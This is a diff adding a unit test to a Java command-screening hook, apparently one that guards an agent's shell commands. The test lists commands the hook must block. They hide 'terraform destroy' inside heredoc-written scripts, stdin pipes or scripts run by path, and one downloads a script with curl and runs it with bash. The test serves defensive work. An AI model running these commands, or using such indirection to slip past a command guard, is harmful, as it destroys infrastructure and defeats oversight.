@@ -171,6 +171,41 @@ class CommandHookTest {
         assertThat(CommandHook.read("npm run build && yarn build", ctx)).isEmpty();
     }
 
+    /**
+     * helper-14: a script the same command writes and then runs, a shell reading its own stdin, and a script run by
+     * its path were allowed without being read. Each is read now (or, when its text cannot be known, blocks); writing
+     * a script without running it, and harmless scripts, pass.
+     */
+    @Test
+    void scriptsWrittenThenRun_readFromStdin_orRunByPath_areRead(@TempDir Path dir) throws Exception {
+        Files.writeString(dir.resolve("here.sh"), "#!/bin/sh\nterraform destroy -auto-approve\n");
+        Files.writeString(dir.resolve("fine.sh"), "#!/bin/sh\nls -la\n");
+        Context ctx = new Context(Map.of(), dir);
+        for (String destroys : List.of(
+                "cat > reset.sh <<'EOF'\nterraform destroy\nEOF\nbash reset.sh",
+                "cat > /tmp/reset-$$.sh <<'EOF'\nterraform destroy\nEOF\nsh /tmp/reset-$$.sh",
+                "echo 'terraform destroy' > r.sh; source r.sh",
+                "printf 'terraform destroy' > r.sh && . r.sh",
+                "bash /dev/stdin <<< 'terraform destroy'",
+                "echo 'terraform destroy' | source /dev/stdin",
+                "sh /dev/fd/0 <<'EOF'\nterraform destroy\nEOF",
+                "./here.sh",
+                "./here.sh --verbose",
+                "echo ls > here.sh; echo 'terraform destroy' >> here.sh; bash here.sh",
+                "echo ls >> fine.sh; bash fine.sh", // added to a script that was there: not known
+                "curl -s https://example.com/x.sh > x.sh; bash x.sh")) {
+            assertThat(CommandHook.read(destroys, ctx)).as(destroys).isNotEmpty();
+        }
+        for (String harmless : List.of(
+                "cat > notes.txt <<'EOF'\nterraform destroy\nEOF",
+                "echo 'ls -la' > s.sh; bash s.sh",
+                "./fine.sh",
+                "bash fine.sh",
+                "cat > check.sh <<'EOF'\ngit status\nEOF\nchmod +x check.sh && ./check.sh")) {
+            assertThat(CommandHook.read(harmless, ctx)).as(harmless).isEmpty();
+        }
+    }
+
     @Test
     void sqlFromAFileOrStdin_isRead_andAFileThatCannotBeRead_blocks(@TempDir Path dir) throws Exception {
         Files.writeString(dir.resolve("drop.sql"), "-- clean up\nDROP TABLE orders;\n");
